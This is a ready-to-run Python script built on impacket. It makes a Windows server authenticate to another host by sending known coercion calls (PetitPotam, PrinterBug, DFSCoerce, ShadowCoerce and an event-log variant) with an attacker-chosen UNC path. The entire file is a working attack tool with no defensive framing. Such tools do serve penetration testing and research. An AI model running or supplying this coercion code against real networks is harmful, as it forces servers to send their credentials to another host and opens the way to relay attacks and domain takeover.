#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Asks a server to open a path on another host, by the calls that are known for it (PetitPotam, PrinterBug, DFSCoerce,
ShadowCoerce, CheeseOunce), with impacket.

usage: coerce.py SERVER ACCOUNT PASSWORD PIPE CALL PATH [PRINTER]"""

import sys

from impacket import uuid
from impacket.dcerpc.v5 import even, rprn, transport
from impacket.dcerpc.v5.dtypes import DWORD, LONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL

EFSRPC_LSARPC = ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")
EFSRPC = ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")
NETDFS = ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")
FSRVP = ("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0")


def call_of(number, *fields):
    return type("Call", (NDRCALL,), {"opnum": number, "structure": fields})


class CallResponse(NDRCALL):  # what it is called is impacket's to look for
    structure = (("Rest", DWORD),)


CALLS = {
    # MS-EFSR 3.1.4.2.1, 3.1.4.2.5
    "EfsRpcOpenFileRaw": (call_of(0, ("FileName", WSTR), ("Flags", LONG)), {"Flags": 0}, EFSRPC),
    "EfsRpcEncryptFileSrv": (call_of(4, ("FileName", WSTR)), {}, EFSRPC),
    # MS-DFSNM 3.1.4.4.1, 3.1.4.4.2
    "NetrDfsAddStdRoot": (call_of(12, ("FileName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", DWORD)),
                          {"RootShare": "share\0", "Comment": "new\0", "ApiFlags": 0}, NETDFS),
    "NetrDfsRemoveStdRoot": (call_of(13, ("FileName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD)),
                             {"RootShare": "share\0", "ApiFlags": 0}, NETDFS),
    # MS-FSRVP 3.1.4.9, 3.1.4.10
    "IsPathSupported": (call_of(8, ("FileName", WSTR)), {}, FSRVP),
    "IsPathShadowCopied": (call_of(9, ("FileName", WSTR)), {}, FSRVP),
}


def connect(server, account, password, pipe):
    t = transport.DCERPCTransportFactory(rf"ncacn_np:{server}[\pipe\{pipe}]")
    domain, _, user = account.rpartition("/")
    t.set_credentials(user, password, domain)
    t.setRemoteHost(server)
    t.set_connect_timeout(5)
    dce = t.get_dce_rpc()
    dce.connect()
    return dce


PRINTER_ACCESS_USE = 8


def ask_to_print(dce, path, server, *printer):
    """MS-RPRN 3.1.4.10.4: the server tells of changes by calling back. Without a printer it is the server's own."""
    dce.bind(rprn.MSRPC_UUID_RPRN)
    name = "\\\\" + "\\".join((server, *printer)) + "\0"
    access = PRINTER_ACCESS_USE if printer else rprn.SERVER_READ
    handle = rprn.hRpcOpenPrinter(dce, name, accessRequired=access)["pHandle"]
    rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(dce, handle, rprn.PRINTER_CHANGE_ADD_JOB,
                                                        pszLocalMachine=path + "\0")


def ask_for_log(dce, path):
    """MS-EVEN 3.1.4.2.2: ElfrOpenBELW"""
    dce.bind(even.MSRPC_UUID_EVEN)
    request = even.ElfrOpenBELW()
    request["UNCServerName"] = "\0"
    request["BackupFileName"] = "\\??\\UNC" + path[1:]
    request["MajorVersion"] = request["MinorVersion"] = 1
    dce.request(request)


def ask(dce, pipe, name, path):
    structure, more, interface = CALLS[name]
    if interface is EFSRPC and pipe != "efsrpc":
        interface = EFSRPC_LSARPC
    try:
        dce.bind(uuid.uuidtup_to_bin(interface))
    except Exception as error:  # it is asked all the same
        print(f"bind: {error}")
    request = structure()
    request["FileName"] = path + "\0"
    for field, value in more.items():
        request[field] = value
    dce.request(request)


def main():
    server, account, password, pipe, name, path, *printer = sys.argv[1:]
    try:
        dce = connect(server, account, password, pipe)
        if name == "RpcRemoteFindFirstPrinterChangeNotificationEx":
            ask_to_print(dce, path, server, *printer)
        elif name == "ElfrOpenBELW":
            ask_for_log(dce, path)
        else:
            ask(dce, pipe, name, path)
        print("done")
    except Exception as error:
        print(f"refused: {error}")


if __name__ == "__main__":
    main()
